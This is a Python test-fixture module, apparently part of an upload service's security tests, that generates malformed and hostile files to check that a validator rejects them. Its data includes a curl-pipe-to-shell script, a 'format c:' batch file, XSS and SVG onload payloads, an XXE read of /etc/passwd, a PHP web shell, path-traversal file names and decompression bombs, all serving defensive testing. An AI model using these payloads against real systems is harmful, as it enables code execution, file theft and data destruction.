"""Some hundred hostile files: every trick in every wrapping, every kind cut short, and much that is no document."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

import pikepdf
from tests.security.fake_scanner import EICAR
from tests.security.hostile_files import docx, pdfs, pictures

Change = Callable[[pikepdf.Pdf], None]


class Hostile(NamedTuple):
    """``about`` says what it is up to, ``name`` what it is called when it is sent."""

    about: str
    name: str
    content: bytes


NO_DOCUMENTS = {
    "nothing": b"",
    "a zero": b"\0" * 64,
    "EICAR": EICAR,
    "Windows program": b"MZ\x90\0" + bytes(200),
    "Linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
    "macOS program": b"\xcf\xfa\xed\xfe" + bytes(200),
    "Java class": b"\xca\xfe\xba\xbe" + bytes(100),
    "shell script": b"#!/bin/sh\ncurl https://x.example | sh\n",
    "batch file": b"@echo off\r\nformat c:\r\n",
    "page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "page after blanks": b" \n\t<script>alert(1)</script>",
    "drawing that runs": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "XML with entities": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "PHP": b"<?php system($_GET['x']); ?>",
    "link of Windows": b"L\0\0\0\x01\x14\x02\0" + bytes(100),
    "old Word": docx.old_word(),
    "Word with a password": docx.locked_container(),
    "rich text with an object": b"{\\rtf1{\\object\\objdata 0105}}",
    "RAR": b"Rar!\x1a\x07\x01\0" + bytes(60),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    "gzip": b"\x1f\x8b\x08\0" + bytes(60),
    "GIF that is a script": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "BMP": b"BM" + bytes(80),
    "WebP": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(60),
    "HEIC": b"\0\0\0\x18ftypheic" + bytes(60),
    "PostScript": b"%!PS-Adobe-3.0\n(r) file\n",
    "document after a page": b"<html>" + pdfs.made(),
    "document after a program": b"MZ" + pdfs.made(),
    "picture after a comment": b"#" + pictures.png(),
    "disk image": bytes(32769) + b"CD001",
}
NAMES = (
    "svar.pdf",
    "bilde.png",
    "../../../etc/cron.d/svar.pdf",
    "svar\u202efdp.exe",
    "svar.pdf\0.exe",
)
WRAPPINGS = (
    {},
    {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    {"object_stream_mode": pikepdf.ObjectStreamMode.disable, "compress_streams": False},
    {"linearize": True},
)
CUTS = 24


def collection(hostile_pdfs: dict[str, Change]) -> Iterator[Hostile]:
    """Everything. ``hostile_pdfs``: changes to a harmless document that each make it a hostile one."""
    for about, content in NO_DOCUMENTS.items():
        for name in NAMES:
            yield Hostile(f"{about} as {name!r}", name, content)
    for about, change in hostile_pdfs.items():
        wrappings = WRAPPINGS[:1] if change is pdfs.bomb else WRAPPINGS  # takes seconds to make
        for number, wrapping in enumerate(wrappings):
            yield Hostile(f"{about}, wrapping {number}", "svar.pdf", pdfs.made(change, **wrapping))
    yield from _documents()
    yield from _cut_short()
    yield from _others()


def _documents() -> Iterator[Hostile]:
    for kind in (docx.MACROS, docx.CARRIES, docx.FETCHES, docx.UNKNOWN, docx.BROKEN):
        for about, change in kind.items():
            for packed, reverse in ((True, False), (False, False), (True, True)):
                content = docx.made(change, packed=packed, reverse=reverse)
                yield Hostile(f"{about}, {packed=}, {reverse=}", "svar.docx", content)


def _cut_short() -> Iterator[Hostile]:
    whole = {
        "svar.pdf": pdfs.made(),
        "bilde.png": pictures.png(),
        "bilde.jpg": pictures.jpeg(),
        "skann.tif": pictures.tiff(3),
        "svar.docx": docx.made(),
    }
    for name, content in whole.items():
        for number in range(CUTS):
            kept = 8 + (len(content) - 40) * number // CUTS
            yield Hostile(f"{name}: {kept} of {len(content)} bytes", name, content[:kept])


def _others() -> Iterator[Hostile]:
    special = {
        "bombe.docx": docx.bomb(),
        "deler.docx": docx.many_parts(),
        "større.docx": docx.larger_than_it_says(),
        "dobbel.docx": docx.twice_the_same(),
        "null.docx": docx.zero_in_a_name(),
        "låst.docx": docx.locked_parts(),
        "foran.docx": docx.hidden_before(),
        "bak.docx": docx.hidden_behind(),
        "merknad.docx": docx.hidden_in_the_remark(),
        "lzma.docx": docx.other_packing(),
        "arkiv.docx": docx.archive({"run.exe": b"MZ"}),
        "punkter.png": pictures.pixel_bomb(29_000),
        "lang.png": pictures.pixel_bomb(60_000),
        "tekst.png": pictures.text_bomb(),
        "punkter.tif": pictures.tiff_bomb(29_000),
        "lang.tif": pictures.tiff_bomb(2**31),
        "sider.tif": pictures.tiff(120, size=(4, 4)),
        "tom.tif": b"II*\0\x08\0\0\0\0\0\0\0\0\0",
        "låst.pdf": pdfs.locked("hemmelig"),
        "låst uten ord.pdf": pdfs.locked(""),
        "tegn.pdf": pdfs.escaped_names(),
        "EICAR.pdf": b"%PDF-1.7\n" + EICAR,
        "side.pdf": b"%PDF-1.7\n<html><script>alert(1)</script>",
    }
    for name, content in special.items():
        yield Hostile(name, name, content)


def mutated(seed: int, number: int) -> Iterator[Hostile]:
    """Harmless files with some bytes changed, taken out or put in: what comes of them, nobody knows."""
    chance = random.Random(seed)
    whole = {
        "svar.pdf": pdfs.made(),
        "bilde.png": pictures.png(),
        "bilde.jpg": pictures.jpeg(),
        "skann.tif": pictures.tiff(2),
        "faks.tif": pictures.tiff(2, mode="1", compression="group4"),
        "svar.docx": docx.made(),
    }
    for at in range(number):
        name = chance.choice(list(whole))
        content = bytearray(whole[name])
        for _ in range(chance.randint(1, 12)):
            place = chance.randrange(8, len(content))
            match chance.randrange(4):
                case 0:
                    content[place] = chance.randrange(256)
                case 1:
                    content[place : place + chance.randrange(1, 30)] = b""
                case 2:
                    content[place:place] = chance.randbytes(chance.randrange(1, 30))
                case _:
                    content[place : place + 4] = b"\xff\xff\xff\xff"
            if len(content) < 20:
                break
        yield Hostile(f"mutation {at} of seed {seed}", name, bytes(content))
